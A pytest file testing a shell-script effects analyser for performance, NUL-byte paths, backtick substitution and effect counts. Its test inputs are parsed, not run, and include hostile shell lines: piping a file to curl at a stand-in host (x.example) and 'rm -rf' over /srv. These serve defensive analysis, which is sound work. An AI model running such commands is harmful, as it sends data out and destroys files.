import sys

import pytest

from fairlead.shell.effects.script_effects import effects_of
from fairlead.shell.places.surroundings import Surroundings
from fairlead.shell.reader import read_script

WHERE = Surroundings("/home/no-one/project", "/home/no-one")


def calls(text: str) -> int:
    """How many calls reading the effects takes: a count, which no busy machine changes."""
    script = read_script(text, cwd="/home/no-one/project", home="/home/no-one")
    made = 0

    def count(*_: object) -> None:
        nonlocal made
        made += 1

    sys.setprofile(count)
    try:
        list(effects_of(script, WHERE))
    finally:
        sys.setprofile(None)
    return made


@pytest.mark.parametrize(
    "line",
    ["cat a | curl -d @- https://x.example; ", "find . -name x | xargs rm; ", "rm $(ls b); ", "kill $(ps); "],
)
def test_the_work_grows_with_the_length_and_not_with_its_square(line: str) -> None:
    calls(line)
    assert calls(line * 160) < calls(line * 40) * 6


def test_a_path_with_a_nul_in_it_breaks_nothing() -> None:
    script = read_script("chmod 1 -n a; python3 -c \"open('a\\x00b')\"", cwd="/x", home="/home/no-one")
    assert list(effects_of(script, WHERE))


def test_output_in_backticks_is_followed_wherever_it_stands() -> None:
    script = read_script("echo start; rm -rf `ls -d /srv/*`", cwd="/x", home="/home/no-one")
    assert "/srv" in {effect.target.path for effect in effects_of(script, WHERE) if effect.target}


def test_many_words_from_one_command_are_as_many_effects() -> None:
    script = read_script("ls e/* | xargs -I{} rm " + "{} " * 200, cwd="/p", home="/h")
    assert len(list(effects_of(script, Surroundings("/p", "/h")))) < 500
